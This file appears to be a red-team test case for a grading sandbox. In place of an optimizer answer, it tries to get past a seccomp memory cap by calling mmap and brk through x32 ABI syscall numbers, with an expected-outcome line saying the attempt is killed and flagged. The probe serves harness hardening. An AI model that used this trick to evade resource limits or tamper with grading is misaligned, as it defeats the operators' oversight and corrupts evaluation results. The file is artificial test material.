# attack: ask for memory through the x32 ABI's syscall numbers (nr | 0x40000000: mmap, brk), which a seccomp filter
#   that compares nr with __NR_mmap does not match: 3 GB (refused by the cap if the OS kernel has x32 enabled,
#   ENOSYS if not); control: the same 64 MB request; no answer
# expect: 0 points for lion; integrity.csv row (tampering while graded: graded once, the kernel was killed by
#   seccomp at the first x32 call, so nothing was mapped)
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
X32 = 0x40000000


def _mmap(nr, n):
    r = _libc.syscall(ctypes.c_long(nr), ctypes.c_long(0), ctypes.c_long(n), ctypes.c_long(3), ctypes.c_long(0x22),
                      ctypes.c_long(-1), ctypes.c_long(0))
    return f"mapped at {r:#x}" if r != -1 else f"errno {ctypes.get_errno()}"


print("RT-DAMAGE x32 mmap 64 MB (control):", _mmap(X32 | 9, 64 * 2**20))
print("RT-DAMAGE x32 mmap 3 GB:", _mmap(X32 | 9, 3 * 2**30))
print("RT-DAMAGE x32 brk(0):", _libc.syscall(ctypes.c_long(X32 | 12), ctypes.c_long(0)), ctypes.get_errno())


class Lion(Optimizer):
    def __init__(self, params, lr=1e-4, betas=(0.9, 0.99), weight_decay=0.0):
        raise NotImplementedError("no answer: this submission only probes the memory cap")

    def step(self, closure=None):
        raise NotImplementedError
